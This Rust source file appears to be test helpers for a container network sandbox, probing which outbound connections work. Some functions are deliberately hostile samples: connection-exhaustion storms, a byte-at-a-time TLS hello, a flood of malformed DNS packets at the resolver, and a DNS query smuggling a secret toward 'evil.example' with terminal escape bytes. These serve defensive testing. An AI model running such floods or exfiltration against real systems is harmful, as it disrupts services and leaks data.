//! What containers do to the world outside of the enclave: ordinary connections by name, and what a hostile one would try.

use std::io::{ErrorKind, Read, Write};
use std::net::{TcpStream, ToSocketAddrs, UdpSocket};
use std::time::{Duration, Instant};

/// Long enough for a busy machine; nothing here measures time.
const PATIENCE: Duration = Duration::from_secs(60);
const RESOLVER: &str = "127.0.0.53:53";

/// What a program does: looks the name up and connects.
fn dial(host: &str, port: u16) -> std::io::Result<TcpStream> {
    let stream = TcpStream::connect((host, port))?;
    stream.set_read_timeout(Some(PATIENCE))?;
    Ok(stream)
}

/// Says a text, ends its side, and shows the answer, or what became of it.
pub(crate) fn call(host: &str, port: u16, text: &str) {
    let begun = Instant::now();
    let talk = || -> std::io::Result<String> {
        let mut stream = dial(host, port)?;
        stream.write_all(text.as_bytes())?;
        stream.shutdown(std::net::Shutdown::Write)?;
        let mut answer = String::new();
        stream.read_to_string(&mut answer)?;
        Ok(answer)
    };
    match talk() {
        Ok(answer) => println!("{host}: answer {answer}"),
        Err(error) => {
            // A reset shows in whichever call comes after it.
            let kind = match error.kind() {
                ErrorKind::BrokenPipe | ErrorKind::NotConnected => ErrorKind::ConnectionReset,
                kind => kind,
            };
            println!("{host}: error {kind:?} at once {}", begun.elapsed() < Duration::from_secs(3));
        }
    }
}

/// Listens before it says anything, as clients of many databases do.
pub(crate) fn hear(host: &str, port: u16) {
    let mut stream = dial(host, port).expect("a connection");
    let mut greeting = [0; 5];
    stream.read_exact(&mut greeting).expect("a greeting");
    println!("heard {}", String::from_utf8_lossy(&greeting));
    stream.write_all(b"thanks").expect("open");
    let mut echo = [0; 6];
    stream.read_exact(&mut echo).expect("an echo");
    println!("echoed {}", String::from_utf8_lossy(&echo));
}

/// Many connections at once, all kept; then one more.
pub(crate) fn storm(host: &str, port: u16, count: usize) {
    let mut open = Vec::new();
    let (mut works, mut fails) = (0, 0);
    for _ in 0..count {
        let talk = || -> std::io::Result<TcpStream> {
            let mut stream = dial(host, port)?;
            stream.write_all(b"x")?;
            stream.read_exact(&mut [0])?;
            Ok(stream)
        };
        match talk() {
            Ok(stream) => {
                works += 1;
                open.push(stream);
            }
            Err(_) => fails += 1,
        }
    }
    println!("storm: {works} work {fails} fail");
    drop(open);
    loop {
        if dial(host, port).and_then(|mut stream| stream.write_all(b"x").and_then(|()| stream.read_exact(&mut [0]))).is_ok() {
            break;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    println!("storm: works again");
}

/// Many connections at once to a server that may never answer; says when the last has ended.
pub(crate) fn half_open(host: &str, port: u16, count: usize) {
    crate::raise_descriptors();
    let mut open = Vec::new();
    let mut refused = 0;
    for _ in 0..count {
        match dial(host, port) {
            Ok(stream) => open.push(stream),
            Err(_) => refused += 1,
        }
    }
    println!("half-open: {} begun", open.len() + refused);
    let silent = open.iter().filter(|stream| matches!((&mut &**stream).read(&mut [0]), Err(error) if error.kind() == ErrorKind::WouldBlock));
    println!("half-open: {} are left", silent.count());
    drop(open);
    // A slot of its own again: it waits.
    let mut again = dial(host, port).expect("a connection");
    again.set_read_timeout(Some(Duration::from_secs(1))).expect("a socket");
    let waits = matches!(again.read(&mut [0]), Err(error) if error.kind() == ErrorKind::WouldBlock);
    println!("half-open: room again {waits}");
}

/// The first message of a TLS client that asks for a server by its name (RFC 8446, section 4.1.2).
fn client_hello(name: &str) -> Vec<u8> {
    let counted = |width: usize, bytes: &[u8]| [&(bytes.len() as u32).to_be_bytes()[4 - width..], bytes].concat();
    let server = counted(2, &[&[0][..], &counted(2, name.as_bytes())].concat());
    let extensions = [&[0, 0][..], &counted(2, &server)].concat();
    let body = [&[3, 3][..], &[7; 32], &[0], &counted(2, &[0x13, 1]), &[1, 0], &counted(2, &extensions)].concat();
    let message = [&[1][..], &counted(3, &body)].concat();
    [&[0x16, 3, 1][..], &counted(2, &message)].concat()
}

/// A TLS client that says its first message at a byte a second, or as a whole, and has not much patience with a server.
pub(crate) fn hello(host: &str, port: u16, pace: &str) {
    let mut stream = dial(host, port).expect("a connection");
    let bytes = client_hello(host);
    stream.set_read_timeout(Some(Duration::from_secs(1))).expect("a socket");
    let mut heard = 0;
    let pieces: Vec<&[u8]> = if pace == "slow" { bytes.chunks(1).collect() } else { vec![&bytes] };
    for piece in pieces {
        if stream.write_all(piece).is_err() {
            println!("hello {host}: cut off");
            return;
        }
        match stream.read(&mut [0; 64]) {
            Ok(count @ 1..) => heard += count,
            Err(error) if error.kind() == ErrorKind::WouldBlock => {}
            _ => {
                println!("hello {host}: cut off");
                return;
            }
        }
    }
    println!("hello {host}: said, and gives up after {heard} bytes");
}

/// Connects over and over, and says each time that the outcome changes.
pub(crate) fn watch(host: &str, port: u16) {
    let mut last = None;
    loop {
        let talk = || -> std::io::Result<()> {
            let mut stream = dial(host, port)?;
            stream.write_all(b"x")?;
            stream.read_exact(&mut [0])
        };
        let works = talk().is_ok();
        if last != Some(works) {
            println!("{host} {}", if works { "works" } else { "fails" });
            last = Some(works);
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// Everything at the resolver that is no query; then a query.
pub(crate) fn corpus(allowed: &str) {
    let socket = UdpSocket::bind("127.0.0.1:0").expect("a port");
    let send = |bytes: &[u8]| drop(socket.send_to(bytes, RESOLVER));
    let header = |counts: [u8; 8]| [&[0x12, 0x34, 1, 0][..], &counts].concat();
    let question = |name: &[u8]| [&header([0, 1, 0, 0, 0, 0, 0, 0])[..], name, &[0, 1, 0, 1]].concat();
    for name in [
        // A pointer at itself, a loop of two, one forward, one beyond the end.
        &[0xc0, 12][..],
        &[1, b'a', 0xc0, 16, 1, b'b', 0xc0, 12],
        &[0xc0, 14, 1, b'a', 0],
        &[0xff, 0xff],
        &[63, b'a'],
        &[0x80, 0],
    ] {
        send(&question(name));
    }
    send(&question(&[&[63; 1][..], &[b'a'; 63]].concat().repeat(8)));
    send(&header([0xff; 8]));
    send(&[0; 65_000]);
    send(&[0xff; 9000]);
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    for size in 0..2000 {
        let bytes: Vec<u8> = (0..size % 700)
            .map(|_| {
                state ^= state << 13;
                state ^= state >> 7;
                state ^= state << 17;
                (state >> 56) as u8
            })
            .collect();
        send(&bytes);
        // With a header that looks right, garbage comes further.
        send(&[&header([0, 1, 0, 0, 0, 0, 0, 1])[..], &bytes].concat());
    }
    // Over TCP: lying lengths, silence, an end in the middle; more of them than are served at once.
    let mut kept = Vec::new();
    for round in 0..80_u8 {
        let Ok(mut stream) = TcpStream::connect(RESOLVER) else { continue };
        let _ = stream.write_all(match round % 4 {
            0 => &[0xff, 0xff, 1, 2, 3],
            1 => &[0, 0],
            2 => &[0, 40, 0x12],
            _ => &[],
        });
        kept.push(stream);
    }
    drop(kept);
    let begun = Instant::now();
    while begun.elapsed() < PATIENCE {
        if let Ok(mut found) = (allowed, 1).to_socket_addrs() {
            println!("corpus: {allowed} is {}", found.next().expect("one").ip());
            return;
        }
    }
    println!("corpus: the resolver is gone");
}

/// A name that carries what only this container knows, and bytes that would do things to a terminal.
pub(crate) fn whisper() {
    let name: &[u8] = b"\x09s3cr3t\x1b[2\x04evil\x07example\x00";
    let message = [&[0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0][..], name, &[0, 1, 0, 1]].concat();
    let socket = UdpSocket::bind("127.0.0.1:0").expect("a port");
    socket.set_read_timeout(Some(PATIENCE)).expect("a socket");
    socket.send_to(&message, RESOLVER).expect("sent");
    let mut answer = [0; 512];
    match socket.recv(&mut answer) {
        Ok(_) => println!("whisper: code {}", answer[3] & 15),
        Err(error) => println!("whisper: {:?}", if error.kind() == ErrorKind::WouldBlock { "silence" } else { "error" }),
    }
}
